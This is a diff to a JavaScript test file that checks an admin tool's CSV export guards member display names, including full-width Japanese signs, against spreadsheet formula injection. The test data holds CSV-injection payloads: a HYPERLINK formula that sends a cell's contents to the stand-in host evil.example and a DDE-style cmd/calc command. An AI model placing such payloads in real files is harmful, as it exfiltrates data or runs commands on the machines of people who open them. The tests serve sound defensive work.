@@ -153,6 +153,24 @@ test('D17: issue-initial writes a new 0600 UTF-8 CSV, one audit row per member, 
     [['admin_action', 'initial_password_issued', `ttl_seconds=${ttl}`]]);
 });
 
+// The display_name cell issue-initial writes for a member named `name`, for
+// each name: one member and one file each, read back as written (quotes,
+// guard and all), so a failure lists every name that came out wrong.
+function displayNameCells(names) {
+  return names.map((name) => {
+    const member = createMember({ logged_in: false, email: null });
+    sql(`UPDATE members SET display_name = ${q(name)} WHERE member_id = ${member.member_id}`);
+    const file = outFile();
+    const run = admin(['member', 'issue-initial', '--login-id', member.login_id, '--out', file]);
+    assert.equal(run.status, 0, run.stderr);
+    const text = fs.readFileSync(file, 'utf8');
+    const start = `${CSV_HEADER}\r\n${member.login_id},`;
+    assert.ok(text.startsWith(start), JSON.stringify(text));
+    // What follows the cell: ,password (12),valid_until CRLF.
+    return text.slice(start.length).replace(/,[^,\r\n]{12},[^,\r\n]*\r\n$/, '');
+  });
+}
+
 // The display names are the insurer's data: a cell that starts with = + - @,
 // a tab or a CR is a formula once the sysadmin opens the CSV in a
 // spreadsheet (CSV injection, OWASP). Such a cell is quoted with a single
@@ -167,16 +185,25 @@ test('D17: issue-initial guards display names a spreadsheet would run as formula
     ['\r=1+1', '"\'\r=1+1"'],
     ['山田=花子', '山田=花子'],
   ];
-  for (const [name, cell] of names) {
-    const member = createMember({ logged_in: false, email: null });
-    sql(`UPDATE members SET display_name = ${q(name)} WHERE member_id = ${member.member_id}`);
-    const file = outFile();
-    const run = admin(['member', 'issue-initial', '--login-id', member.login_id, '--out', file]);
-    assert.equal(run.status, 0, run.stderr);
-    const text = fs.readFileSync(file, 'utf8');
-    assert.ok(text.startsWith(`${CSV_HEADER}\r\n${member.login_id},${cell},`),
-      `${JSON.stringify(name)} is written as ${JSON.stringify(cell)}: ${JSON.stringify(text.split('\r\n')[1])}`);
-  }
+  assert.deepEqual(displayNameCells(names.map(([name]) => name)), names.map(([, cell]) => cell));
+});
+
+// Japanese Excel also starts a formula from the full-width signs ＝ ＋ － ＠
+// (U+FF1D, U+FF0B, U+FF0D, U+FF20), and an insurer's names are typed with a
+// Japanese IME: they are guarded as their ASCII twins. Only those four: a
+// full-width sign further in, or another full-width character first (（,
+// whose UTF-8 starts with the same two bytes), stays as it is.
+test('D17: issue-initial guards display names starting with the full-width signs ＝ ＋ － ＠ (CSV injection)', async () => {
+  const names = [
+    ['＝HYPERLINK("https://evil.example/?"&A2,"詳細")', '"\'＝HYPERLINK(""https://evil.example/?""&A2,""詳細"")"'],
+    ['＋81 3 1234 5678', '"\'＋81 3 1234 5678"'],
+    ['－2＋3＋cmd|\' /C calc\'!A0', '"\'－2＋3＋cmd|\' /C calc\'!A0"'],
+    ['＠SUM(1＋1)*cmd', '"\'＠SUM(1＋1)*cmd"'],
+    ['山田＝花子', '山田＝花子'],
+    ['花子＋＠－', '花子＋＠－'],
+    ['（株）山田＝花子', '（株）山田＝花子'],
+  ];
+  assert.deepEqual(displayNameCells(names.map(([name]) => name)), names.map(([, cell]) => cell));
 });
 
 test('D17: issue-initial never overwrites a file: exit 73, the file and every member unchanged', async () => {
